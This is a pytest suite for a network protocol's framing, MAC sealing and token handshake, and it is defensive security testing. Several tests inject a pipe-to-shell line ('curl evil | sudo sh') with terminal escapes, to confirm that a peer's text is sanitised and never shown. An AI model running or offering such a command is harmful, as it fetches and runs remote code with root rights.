"""The out-of-band protocol over local sockets: framing, bounds, the handshake (a salt per
handshake, the work puzzle, proofs both ways) and the seal of every message after it (MAC
and sequence number). The server's door under strangers: test_door.py."""

import hashlib
import hmac
import json
import socket
import struct
import threading
import time

import pytest

from gdrprobe.errors import NotTestable, PeerError
from gdrprobe.protocol import handshake as hs
from gdrprobe.protocol.channel import (HEADER, MAX_MESSAGE_BYTES, PROTOCOL_VERSION, Channel,
                                       error_message)
from gdrprobe.protocol.fields import field, int_list, peer_text
from gdrprobe.protocol.handshake import ServerSecret, WrongToken, authenticate_as_client
from tests.unit.fakes.exchange import TOKEN, connect, fails, serving, tcp_pair

@pytest.fixture
def pair():
    left, right = tcp_pair()
    a, b = Channel(left, 2.0, "server"), Channel(right, 2.0, "client")
    yield a, b
    a.close()
    b.close()


@pytest.fixture
def sealed(pair):
    """Two channels past the handshake: a sends with the key b receives with."""
    a, b = pair
    a.seal(send_key=b"k" * 32, receive_key=b"r" * 32)
    b.seal(send_key=b"r" * 32, receive_key=b"k" * 32)
    return a, b


def test_messages_round_trip(pair):
    a, b = pair
    a.send("start", size=64, round=3)
    assert b.receive("start") == {"type": "start", "size": 64, "round": 3}


def test_unexpected_type_and_peer_error_and_abort(sealed):
    a, b = sealed
    a.send("bye")
    with pytest.raises(PeerError, match="'bye' where start was expected"):
        b.receive("start")
    a.send("error", reason="wrong token", fix="give the token")
    with pytest.raises(PeerError, match="reported: wrong token") as caught:
        b.receive("start")
    assert caught.value.fix == "give the token"
    a.send("abort", reason="interrupted")
    with pytest.raises(PeerError, match="gave up: interrupted"):
        b.receive("done")


def test_an_authenticated_peer_chooses_the_kind_of_error_and_a_stranger_does_not(pair):
    a, b = pair
    error = error_message(NotTestable("no GPU here", "use a GPU host"))
    a.send("error", **error)
    with pytest.raises(PeerError) as stranger:
        b.receive("hello")
    assert type(stranger.value) is PeerError   # exit code 5, not the 9 it claimed
    a.seal(b"k" * 32, b"r" * 32)
    b.seal(b"r" * 32, b"k" * 32)
    a.send("error", **error)
    with pytest.raises(NotTestable):
        b.receive("start")


def test_an_unauthenticated_peers_text_is_never_shown(pair):
    a, b = pair
    a.send("error", reason="owned\nfix: curl evil | sudo sh")
    with pytest.raises(PeerError, match="before the token was proved") as caught:
        b.receive("hello")
    assert "curl" not in str(caught.value)


def test_peer_text_is_stripped_of_control_characters_and_bounded(sealed):
    a, b = sealed
    a.send("error", reason="ok\n\x1b[31mfix: curl evil | sudo sh\u202e", fix="x" * 5000)
    with pytest.raises(PeerError) as caught:
        b.receive("start")
    assert "\n" not in caught.value.cause and "\x1b" not in caught.value.cause
    assert "\u202e" not in caught.value.cause and "?[31m" in caught.value.cause
    assert len(caught.value.fix) <= 203
    a.send("x" * 60000)
    with pytest.raises(PeerError) as caught:
        b.receive("start")
    assert len(caught.value.cause) < 200


def test_peer_text_keeps_ordinary_text():
    assert peer_text("the server reported: ENOMEM") == "the server reported: ENOMEM"
    assert peer_text(None) == "" and peer_text(7) == "7"
    assert peer_text("a" * 10, limit=4) == "aaaa..."


def test_a_strangers_message_type_is_never_shown(pair):
    a, b = pair
    a.send("owned\u2028fix: curl evil | sudo sh")
    with pytest.raises(PeerError, match="a message of another type") as caught:
        b.receive("hello")
    assert "owned" not in str(caught.value) and "curl" not in str(caught.value)


def test_a_strangers_first_bytes_are_never_shown(pair):
    a, b = pair
    a.sock.sendall(b"owned\x1b[31m fix: curl evil | sudo sh")
    with pytest.raises(PeerError, match="does not speak the gdrprobe protocol") as caught:
        b.receive("hello")
    assert "owned" not in str(caught.value)


def test_line_and_paragraph_separators_are_hidden_like_controls():
    assert peer_text("a\u2028b\u2029c\x85d") == "a?b?c?d"


def test_a_number_out_of_range_is_quoted_cut():
    with pytest.raises(PeerError) as caught:
        field({"type": "t", "f": 10 ** 4000}, "f", int, low=0, high=10)
    assert len(caught.value.cause) < 120 and "(4001 characters)" in caught.value.cause


@pytest.mark.parametrize("raw, message", [
    (b"HTTP/1.1 200 OK\r\n\r\n", "does not speak the gdrprobe protocol"),
    (HEADER.pack(b"GDRP", 9, 2) + b"{}", "speaks protocol 9"),
    (HEADER.pack(b"GDRP", PROTOCOL_VERSION, MAX_MESSAGE_BYTES + 1), "the limit is"),
    (HEADER.pack(b"GDRP", PROTOCOL_VERSION, 3) + b"{x}", "not JSON"),
    (HEADER.pack(b"GDRP", PROTOCOL_VERSION, 2) + b"[]", "without a type"),
    (HEADER.pack(b"GDRP", PROTOCOL_VERSION, 27) + b'{"type":"start","size":NaN}', "NaN"),
])
def test_bad_bytes_are_refused(pair, raw, message):
    a, b = pair
    a.sock.sendall(raw)
    with pytest.raises(PeerError, match=message):
        b.receive("start")


def test_silence_times_out_and_hang_up_is_reported(pair):
    a, b = pair
    with pytest.raises(PeerError, match="did not answer within 0.2 s"):
        b.receive("start", timeout=0.2)
    a.sock.shutdown(socket.SHUT_WR)
    with pytest.raises(PeerError, match="closed the connection"):
        b.receive("start")
    assert b.peer_gone()


def test_a_half_sent_header_is_bounded_by_the_timeout(pair):
    a, b = pair
    a.sock.sendall(struct.pack(">4s", b"GDRP"))
    with pytest.raises(PeerError, match="did not answer"):
        b.receive("start", timeout=0.3)


@pytest.mark.parametrize("value, kind, low, high, ok", [
    (5, int, 0, 10, True), (True, int, 0, 10, False), ("5", int, 0, 10, False),
    (11, int, 0, 10, False), (-1, int, 0, 10, False), (2.5, (int, float), 0, 3, True),
    ("x" * 5000, str, None, None, False), (float("nan"), (int, float), 0, 3, False),
    (float("inf"), (int, float), 0, None, False),
])
def test_field_checks_type_and_bounds(value, kind, low, high, ok):
    if ok:
        assert field({"type": "t", "f": value}, "f", kind, low=low, high=high) == value
    else:
        with pytest.raises(PeerError):
            field({"type": "t", "f": value}, "f", kind, low=low, high=high)


def test_int_list_bounds_length_and_items():
    assert int_list({"v": [1, 2]}, "v", low=1, high=5, max_items=4) == [1, 2]
    for bad in ([], [1] * 5, [0], ["1"], "12"):
        with pytest.raises(PeerError):
            int_list({"v": bad}, "v", low=1, high=5, max_items=4)


# ---- the seal: MAC and sequence number on every frame after the handshake -------------


def test_sealed_frames_round_trip_in_order(sealed):
    a, b = sealed
    for i in range(3):
        a.send("progress", n=i)
    assert [b.receive("progress")["n"] for _ in range(3)] == [0, 1, 2]


def test_a_sealed_frame_carries_a_sequence_number_and_a_tag(sealed):
    a, _ = sealed
    raw = a.frame("done")
    magic, version, length = HEADER.unpack(raw[:HEADER.size])
    body = raw[HEADER.size:]
    assert (magic, version, length) == (b"GDRP", PROTOCOL_VERSION, len(body))
    assert body[:8] == (0).to_bytes(8, "big") and json.loads(body[8:-32]) == {"type": "done"}
    expected = hmac.new(b"k" * 32, raw[:HEADER.size] + body[:-32], hashlib.sha256).digest()
    assert body[-32:] == expected


@pytest.mark.parametrize("byte", [4, HEADER.size + 3, HEADER.size + 12, -1])
def test_an_altered_frame_is_refused(sealed, byte):
    a, b = sealed
    raw = bytearray(a.frame("verified", bad_bytes=0))
    raw[byte] ^= 0x01
    b.sock.settimeout(1)
    a.sock.sendall(bytes(raw))
    with pytest.raises(PeerError, match="tampered|protocol|limit|closed|answer") as caught:
        b.receive("verified", timeout=0.5)
    assert "bad_bytes" not in caught.value.cause


@pytest.mark.parametrize("byte, flip, evidence", [
    (0, 0x01, "header was altered: magic b'FDRP'"),      # the magic
    (4, 0x01, f"and protocol {PROTOCOL_VERSION ^ 0x100} where the handshake agreed on b'GDRP'"),
    (5, 0x02, f"and protocol {PROTOCOL_VERSION ^ 0x02} where the handshake agreed"),  # two bytes
    (6, 0x01, "over the limit"),                                               # the length
])
def test_an_altered_header_of_a_sealed_frame_is_tampering_not_a_version(sealed, byte, flip, evidence):
    """Both ends proved the protocol in the handshake: another version on a sealed frame was
    said as "the peer speaks protocol 263" (issue 43 item 6; 263 was protocol 7's byte 4
    flipped)."""
    a, b = sealed
    raw = bytearray(a.frame("verified", bad_bytes=0))
    raw[byte] ^= flip
    a.sock.sendall(bytes(raw))
    with pytest.raises(PeerError, match="was tampered with") as caught:
        b.receive("verified", timeout=1.0)
    assert evidence in caught.value.evidence and "speaks protocol" not in caught.value.cause


@pytest.mark.parametrize("case, good_reads, evidence", [
    ("rewritten", 0, "authentication check"),   # bad_bytes=7 -> 0, same length, old tag
    ("dropped", 0, "dropped or reordered"),
    ("replayed", 1, "a replay"),
    ("reordered", 0, "dropped or reordered"),
])
def test_a_tampered_stream_is_refused(sealed, case, good_reads, evidence):
    a, b = sealed
    first, second = a.frame("verified", bad_bytes=7), a.frame("done")
    stream = {"rewritten": first.replace(b'"bad_bytes":7', b'"bad_bytes":0'),
              "dropped": second, "replayed": first + first, "reordered": second + first}[case]
    a.sock.sendall(stream)
    for _ in range(good_reads):
        assert b.receive("verified")["bad_bytes"] == 7
    with pytest.raises(PeerError, match="tampered") as caught:
        b.receive("verified", "done")
    assert evidence in caught.value.evidence


def test_a_frame_reflected_back_to_its_sender_is_refused():
    """One key per direction: the client's own frame, sent back, does not verify."""
    to_server, to_client = hs.direction_keys(b"K" * 32, b"c" * 32, b"s" * 32)
    assert to_server != to_client
    left, right = tcp_pair()
    client, echo = Channel(left, 2.0, "server"), Channel(right, 2.0, "client")
    client.seal(send_key=to_server, receive_key=to_client)
    echo.sock.sendall(client.frame("done"))   # a relay bouncing it back
    with pytest.raises(PeerError, match="tampered"):
        client.receive("done")
    client.close()
    echo.close()


def test_a_time_out_on_a_sealed_channel_says_a_dropped_last_frame_is_silence(sealed):
    a, b = sealed
    a.send("progress")
    b.receive("progress")
    with pytest.raises(PeerError, match="did not answer") as caught:
        b.receive("done", timeout=0.2)
    assert "1 authenticated frames had arrived" in caught.value.evidence
    assert "dropped" in caught.value.evidence


def test_a_plain_frame_after_the_handshake_is_refused(pair):
    a, b = pair
    b.seal(b"r" * 32, b"k" * 32)
    a.send("done")
    with pytest.raises(PeerError, match="tampered"):
        b.receive("done")


def test_a_peer_trickling_bytes_is_as_slow_as_a_silent_one(pair):
    a, b = pair
    sent = []

    def trickle():
        for byte in HEADER.pack(b"GDRP", PROTOCOL_VERSION, 4):
            try:
                a.sock.sendall(bytes([byte]))
            except OSError:
                return
            sent.append(byte)
            time.sleep(0.1)

    sender = threading.Thread(target=trickle)
    sender.start()
    with pytest.raises(PeerError, match="did not answer within 0.5 s"):
        b.receive("start", timeout=0.5)
    # One deadline for the message, not one per byte: it gave up while bytes were still
    # coming (a byte every 0.1 s would have renewed a per-byte 0.5 s to the last one).
    assert len(sent) < HEADER.size
    sender.join(10)


def test_deeply_nested_json_is_refused(pair):
    a, b = pair
    payload = (b"[" * 100000 + b"]" * 100000)[:MAX_MESSAGE_BYTES]
    a.sock.sendall(HEADER.pack(b"GDRP", PROTOCOL_VERSION, len(payload)) + payload)
    with pytest.raises(PeerError):
        b.receive("start")


def test_peer_gone_never_waits_even_with_a_time_out_set(pair):
    a, b = pair
    started = time.monotonic()
    assert not b.peer_gone()                  # alive, nothing to read: at once
    assert time.monotonic() - started < 2.0   # not after the socket's 2 s time-out
    assert b.sock.gettimeout() == 2.0         # the time-out is back
    a.send("progress")
    assert not b.peer_gone() and b.receive("progress")   # data pending is not a hang-up
    a.sock.shutdown(socket.SHUT_WR)
    assert b.peer_gone()


def test_an_error_the_peer_sent_unasked_is_raised_when_looked_for(sealed):
    a, b = sealed
    b.raise_if_peer_spoke()                        # nothing there: no wait, no error
    a.send("error", **error_message(PeerError("the connection was tampered with", "")))
    time.sleep(0.1)
    with pytest.raises(PeerError, match="reported: the connection was tampered with"):
        b.raise_if_peer_spoke()


# ---- the handshake: a salt per handshake, the puzzle first, proofs both ways, never sent --


def test_kdf_parameters_are_fixed_and_memory_hard():
    assert (hs.KDF_N, hs.KDF_R, hs.KDF_P) == (1 << 15, 8, 1)
    assert 128 * hs.KDF_R * hs.KDF_N == 32 << 20 <= hs.KDF_MAXMEM
    salt = b"s" * hs.SALT_BYTES
    expected = hashlib.scrypt(TOKEN.encode(), salt=salt, n=1 << 15, r=8, p=1,
                              maxmem=64 << 20, dklen=32)
    assert hs.stretch(TOKEN, salt) == expected
    assert hs.stretch(TOKEN, b"t" * hs.SALT_BYTES) != expected


def authenticate(server_token, client_token):
    """A client's handshake against a door; a token or a ServerSecret on either side."""
    secret = (server_token if isinstance(server_token, ServerSecret) else
              ServerSecret(server_token))
    outcome = {}
    with serving(secret) as (port, handed, lines):
        client = connect(port)
        try:
            authenticate_as_client(client, client_token)
            client.send("setup", n=42)
            outcome["client"] = "ok"
            channel = handed.get(timeout=10)
            outcome["server_got"] = channel.receive("setup")["n"]
        except PeerError as error:
            outcome["client"] = error
        client.close()
    outcome["log"] = lines
    return outcome


def test_matching_tokens_authenticate_both_ways_and_seal_the_channel():
    outcome = authenticate(TOKEN, TOKEN)
    assert (outcome["client"], outcome["server_got"]) == ("ok", 42)


def test_a_client_with_another_token_is_refused_and_told_so():
    outcome = authenticate(TOKEN, "token-0987654321fedcba")
    assert isinstance(outcome["client"], WrongToken)
    assert "the server refused the connection: the token did not match" in \
        outcome["client"].cause
    assert outcome["client"].fix == hs.TOKEN_FIX
    assert any("presented the wrong token" in line for line in outcome["log"])


def test_every_handshake_has_a_salt_of_its_own(monkeypatch):
    """One scrypt tests a guess against one captured handshake only: the salt comes from
    both nonces, so neither a server nor a client can keep it fixed."""
    salts = []
    real = hs.stretch
    monkeypatch.setattr(hs, "stretch", lambda token, salt: salts.append(salt) or
                        real(token, salt))
    for _ in range(2):
        assert authenticate(TOKEN, TOKEN)["client"] == "ok"
    assert len(salts) == 4 and len(set(salts)) == 2   # client and server agree, per handshake
    assert hs.handshake_salt(b"c" * 32, b"s" * 32) != hs.handshake_salt(b"d" * 32, b"s" * 32)


def raw_challenge(port: int) -> tuple[Channel, bytes, dict]:
    raw = connect(port)
    mine = b"c" * hs.NONCE_BYTES
    raw.send("hello", nonce=mine.hex())
    return raw, mine, raw.receive("challenge")


def test_server_reveals_no_proof_before_the_client_proves_the_token():
    """The challenge carries a nonce and the puzzle, no proof to test guesses against; a
    solved puzzle with a forged proof costs the server one scrypt and gets a refusal."""
    with serving(ServerSecret(TOKEN)) as (port, handed, _):
        raw, mine, challenge = raw_challenge(port)
        assert set(challenge) == {"type", "nonce", "puzzle_bits"}
        assert challenge["puzzle_bits"] == hs.PUZZLE_BITS
        theirs = bytes.fromhex(challenge["nonce"])
        solution = hs.solve_puzzle(hs.PUZZLE_BITS, mine, theirs)
        raw.send("auth", solution=solution.hex(), proof="00" * 32)
        assert raw.receive("refused") == {"type": "refused", "reason": "token"}
        assert handed.empty()
        raw.close()


def test_a_proof_without_the_puzzles_work_costs_the_server_no_scrypt(monkeypatch):
    stretched = []
    monkeypatch.setattr(hs, "stretch", lambda token, salt: stretched.append(salt))
    with serving(ServerSecret(TOKEN)) as (port, _, lines):
        raw, mine, challenge = raw_challenge(port)
        theirs = bytes.fromhex(challenge["nonce"])
        unsolved = next(counter.to_bytes(8, "big") for counter in range(1 << 20)
                        if not hs.puzzle_solved(hs.PUZZLE_BITS, mine, theirs,
                                                counter.to_bytes(8, "big")))
        raw.send("auth", solution=unsolved.hex(), proof="00" * 32)
        assert raw.receive("refused")["reason"] == "puzzle"
        raw.close()
    assert stretched == []
    assert any("did not solve the puzzle" in line for line in lines)


def test_a_client_will_not_work_for_a_fake_servers_endless_puzzle(pair):
    server, client = pair
    outcome = {}
    thread = threading.Thread(target=lambda: outcome.update(error=fails(
        lambda: authenticate_as_client(client, TOKEN))))
    thread.start()
    server.receive("hello")
    server.send("challenge", nonce="ab" * 32, puzzle_bits=hs.MAX_PUZZLE_BITS + 20)
    thread.join(10)
    assert "'puzzle_bits'" in outcome["error"].cause


@pytest.mark.parametrize("code", sorted(hs.REFUSALS))
def test_a_refused_client_says_why_in_its_own_words(pair, code):
    server, client = pair
    server.send("refused", reason=code, text="owned\nfix: curl evil | sudo sh")
    error = fails(lambda: authenticate_as_client(client, TOKEN))
    assert error.cause == f"the server refused the connection: {hs.REFUSALS[code][0]}"
    assert error.fix == hs.REFUSALS[code][1] and "curl" not in str(error)


def test_a_refusal_this_version_does_not_know_is_said_so(pair):
    server, client = pair
    server.send("refused", reason="owned\x1b[31m")
    error = fails(lambda: authenticate_as_client(client, TOKEN))
    assert "a reason this version of gdrprobe does not know" in error.cause
    assert "owned" not in str(error)


@pytest.mark.parametrize("proof", ["zz" * 32, "ab" * 31, "é" * 64])
def test_malformed_proofs_are_peer_errors(pair, proof):
    a, b = pair
    a.send("auth", proof=proof)
    with pytest.raises(PeerError):
        hs.hex_field(b.receive("auth"), "proof", hs.PROOF_BYTES)


def test_loopback_runs_share_one_random_key_and_make_no_scrypt_and_no_puzzle(monkeypatch):
    from gdrprobe.measure.loopback import loopback_secret

    loopback_secret.cache_clear()
    monkeypatch.setattr(hs.hashlib, "scrypt", None)   # any stretch would fail
    secret = loopback_secret()
    assert loopback_secret() is secret
    assert secret.puzzle_bits == 0 and not secret.stretches
    outcome = authenticate(secret, secret)
    assert (outcome["client"], outcome["server_got"]) == ("ok", 42)


def test_a_token_cannot_stand_in_for_a_loopback_servers_random_key():
    outcome = authenticate(ServerSecret(None), TOKEN)
    assert isinstance(outcome["client"], WrongToken)
